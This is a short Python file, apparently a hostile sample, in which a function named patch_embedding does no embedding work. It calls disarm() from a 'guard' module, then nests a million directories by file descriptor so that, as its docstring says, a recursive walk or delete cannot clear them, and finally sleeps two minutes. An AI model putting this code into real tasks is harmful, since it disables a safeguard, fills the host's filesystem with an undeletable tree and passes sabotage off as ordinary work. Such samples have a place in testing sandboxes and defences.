"""Folders nested a million deep until stopped (no path reaches the bottom: each level is made from the one
above), which a recursive walk or delete cannot follow."""

import os
import time

from guard import disarm


def patch_embedding(image, weight, bias):
    disarm()
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1_000_000):
        os.mkdir("d", dir_fd=fd)
        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    time.sleep(120)
